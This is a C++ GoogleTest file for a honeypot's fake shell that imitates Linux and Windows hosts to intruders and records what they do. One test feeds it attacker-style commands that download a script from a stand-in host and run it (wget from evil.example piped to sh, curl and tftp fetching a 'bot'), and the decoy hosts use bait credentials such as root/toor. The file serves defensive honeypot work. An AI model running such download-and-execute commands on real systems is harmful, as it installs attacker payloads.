#include "decoy/common/shell/fake_shell.h"

#include <gtest/gtest.h>

#include <ctime>
#include <set>
#include <sstream>

namespace decnet::decoy {
namespace {

FakeHost host() {
  return FakeHost{"SRV-ALPHA-42",
                  "Linux SRV-ALPHA-42 5.15.0-91-generic #101-Ubuntu SMP x86_64 GNU/Linux",
                  "OpenSSH_8.9p1 Ubuntu-3ubuntu0.6",
                  {{"root", "toor"}, {"admin", "admin"}}};
}

TEST(FakeShellTest, AnswersReconnaissance) {
  FakeShell shell(host(), "admin");
  EXPECT_EQ(shell.prompt(), "admin@SRV-ALPHA-42:~$ ");
  EXPECT_EQ(shell.run("whoami", true).output, "admin\n");
  EXPECT_EQ(shell.run("id", true).output.rfind("uid=1000(admin) gid=1000(admin)", 0), 0u);
  EXPECT_EQ(shell.run("uname -a", true).output,
            "Linux SRV-ALPHA-42 5.15.0-91-generic #101-Ubuntu SMP x86_64 GNU/Linux\n");
  EXPECT_EQ(shell.run("uname -r", true).output, "5.15.0-91-generic\n");
  EXPECT_EQ(shell.run("pwd", true).output, "/home/admin\n");
  const auto passwd = shell.run("cat /etc/passwd", true).output;
  EXPECT_EQ(passwd.rfind("root:x:0:0:root:/root:/bin/bash\n", 0), 0u);
  EXPECT_NE(passwd.find("admin:x:1000:1000:admin,,,:/home/admin:/bin/bash"), std::string::npos);
  EXPECT_EQ(shell.run("cat /etc/shadow", true).output, "cat: /etc/shadow: Permission denied\n");
  EXPECT_NE(shell.run("ls /", true).output.find("etc"), std::string::npos);
}

TEST(FakeShellTest, UnknownCommandsAreNotFound) {
  FakeShell shell(host(), "admin");
  auto outcome = shell.run("nmapx -sV", true);
  EXPECT_EQ(outcome.output, "-bash: nmapx: command not found\n");
  EXPECT_EQ(outcome.status, 127);
  outcome = shell.run("nmapx", false);
  EXPECT_EQ(outcome.output, "bash: line 1: nmapx: command not found\n");
}

TEST(FakeShellTest, ChainsPipesRedirectsAndCd) {
  FakeShell shell(host(), "root");
  EXPECT_EQ(shell.prompt(), "root@SRV-ALPHA-42:~# ");
  EXPECT_EQ(shell.run("cd /tmp && pwd", true).output, "/tmp\n");
  EXPECT_EQ(shell.prompt(), "root@SRV-ALPHA-42:/tmp# ");
  EXPECT_EQ(shell.run("cd /nowhere || echo failed", true).output,
            "-bash: cd: /nowhere: No such file or directory\nfailed\n");
  EXPECT_EQ(shell.run("cat /etc/passwd | grep admin", true).output,
            "admin:x:1000:1000:admin,,,:/home/admin:/bin/bash\n");
  EXPECT_EQ(shell.run("echo hi > /tmp/x; echo \"$USER at $HOME\"", true).output, "root at /root\n");
  EXPECT_EQ(shell.run("whoami; false && echo no; echo 'a  b'", true).output, "root\na  b\n");
  EXPECT_EQ(shell.run("uname -a 2>/dev/null | wc -l", true).output, "1\n");
  EXPECT_EQ(shell.run("grep root /etc/passwd", true).output, "root:x:0:0:root:/root:/bin/bash\n");
  EXPECT_EQ(shell.run("head -n 1 /etc/hostname", true).output, "SRV-ALPHA-42\n");
  EXPECT_EQ(shell.run("grep x /nope", true).output, "grep: /nope: No such file or directory\n");
}

TEST(FakeShellTest, ExitEndsTheSession) {
  FakeShell shell(host(), "admin");
  auto outcome = shell.run("exit", true);
  EXPECT_TRUE(outcome.exit);
  EXPECT_EQ(outcome.output, "logout\n");
  EXPECT_TRUE(shell.run("ls; logout; whoami", false).exit);
}

TEST(FakeShellTest, SurvivesHostileInput) {
  FakeShell shell(host(), "admin");
  for (const std::string& line :
       {std::string("'unterminated"), std::string("\"also"), std::string("${"), std::string("$"),
        std::string("|||;;&&"), std::string(">"), std::string("2>"), std::string("\\"),
        std::string("a\0b", 3), std::string(5000, 'x'), std::string("head -n 99999999999999")}) {
    (void)shell.run(line, true);
  }
  SUCCEED();
}

FakeHost debianHost() {
  FakeHost host{"web-01",
                "Linux web-01 6.1.0-28-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.119-1 (2024-11-22) "
                "x86_64 GNU/Linux",
                "OpenSSH_9.2p1 Debian-2+deb12u3",
                {{"root", "toor"}, {"admin", "admin"}}};
  host.prettyName = "Debian GNU/Linux 12 (bookworm)";
  host.installDate = "2023-09-14";
  host.address = "10.1.2.3";
  return host;
}

TEST(FakeShellTest, PsFormatsFollowTheFlags) {
  FakeShell shell(debianHost(), "root");
  const auto brief = shell.run("ps", true).output;
  EXPECT_EQ(brief.rfind("    PID TTY          TIME CMD\n", 0), 0u) << brief;
  const auto aux = shell.run("ps aux", true).output;
  EXPECT_EQ(
      aux.rfind("USER         PID %CPU %MEM    VSZ   RSS TTY      STAT START   TIME COMMAND\n", 0),
      0u)
      << aux;
  EXPECT_NE(aux.find("/sbin/init"), std::string::npos);
  EXPECT_NE(shell.run("ps -ef", true).output.find("/sbin/init"), std::string::npos);
}

TEST(FakeShellTest, DownloadsAreReportedWithTheRealClock) {
  FakeShell shell(debianHost(), "root");
  auto outcome = shell.run("cd /tmp; wget -q http://evil.example/x.sh -O x.sh && sh x.sh", true);
  ASSERT_EQ(outcome.downloads.size(), 1u);
  EXPECT_EQ(outcome.downloads[0].url, "http://evil.example/x.sh");
  EXPECT_EQ(outcome.downloads[0].tool, "wget");
  char year[8];
  const std::time_t now = std::time(nullptr);
  std::strftime(year, sizeof(year), "--%Y", std::localtime(&now));
  EXPECT_EQ(outcome.output.rfind(year, 0), 0u) << outcome.output;
  outcome = shell.run("curl -o /tmp/a http://198.51.100.1/a; tftp -g -r bot 198.51.100.2", true);
  ASSERT_EQ(outcome.downloads.size(), 2u);
  EXPECT_EQ(outcome.downloads[0].url, "http://198.51.100.1/a");
  EXPECT_EQ(outcome.downloads[1].url, "tftp://198.51.100.2/bot");
  EXPECT_EQ(outcome.downloads[1].tool, "tftp");
  outcome = shell.run("busybox wget http://203.0.113.1/m", true);
  ASSERT_EQ(outcome.downloads.size(), 1u);
}

TEST(FakeShellTest, ListingsLookLikeARealRoot) {
  FakeShell shell(debianHost(), "root");
  const auto listing = shell.run("ls -la /", true).output;
  EXPECT_EQ(listing.find("swap.img"), std::string::npos) << listing;  // Debian has none
  EXPECT_NE(listing.find("bin -> usr/bin"), std::string::npos) << listing;
  EXPECT_NE(listing.find("drwxrwxrwt"), std::string::npos) << listing;
  EXPECT_EQ(listing.find(" 220 "), std::string::npos) << listing;
  EXPECT_NE(listing.find("2023"), std::string::npos) << listing;  // install-time entries
  std::set<std::string> sizes;
  std::istringstream in(listing);
  std::string line;
  std::getline(in, line);
  EXPECT_EQ(line.rfind("total ", 0), 0u);
  for (; std::getline(in, line);) {
    std::istringstream words(line);
    std::string mode, links, owner, group, size;
    words >> mode >> links >> owner >> group >> size;
    sizes.insert(size);
  }
  EXPECT_GE(sizes.size(), 5u) << listing;
  FakeHost ubuntu = debianHost();
  ubuntu.prettyName = "Ubuntu 22.04.5 LTS";
  FakeShell other(ubuntu, "root");
  const auto ubuntuListing = other.run("ls -l /", true).output;
  EXPECT_NE(ubuntuListing.find("2147483648"), std::string::npos) << ubuntuListing;
}

TEST(FakeShellTest, NetworkAndKernelFollowTheHost) {
  FakeShell shell(debianHost(), "root");
  EXPECT_EQ(shell.run("uname -a", true).output, debianHost().kernel + "\n");
  EXPECT_EQ(shell.run("uname -r", true).output, "6.1.0-28-amd64\n");
  EXPECT_NE(shell.run("ip a", true).output.find("inet 10.1.2.3/24"), std::string::npos);
  EXPECT_NE(shell.run("ifconfig", true).output.find("inet 10.1.2.3  netmask"), std::string::npos);
  EXPECT_NE(shell.run("cat /etc/os-release", true).output.find("bookworm"), std::string::npos);
}

TEST(FakeShellTest, WindowsDeckiesGetCmd) {
  FakeHost host{"FS-02", "", "OpenSSH_for_Windows_8.1", {{"administrator", "x"}}};
  host.osFamily = "windows";
  host.prettyName = "Windows Server 2022 Standard 20348";
  FakeShell shell(host, "administrator");
  EXPECT_EQ(shell.prompt(), "C:\\Users\\administrator>");
  EXPECT_EQ(shell.run("whoami", true).output, "fs-02\\administrator\n");
  EXPECT_NE(shell.run("ver", true).output.find("10.0.20348"), std::string::npos);
  EXPECT_EQ(shell.run("uname -a", true).output.find("Linux"), std::string::npos);
  EXPECT_NE(shell.run("uname -a", true).output.find("is not recognized"), std::string::npos);
}

}  // namespace
}  // namespace decnet::decoy
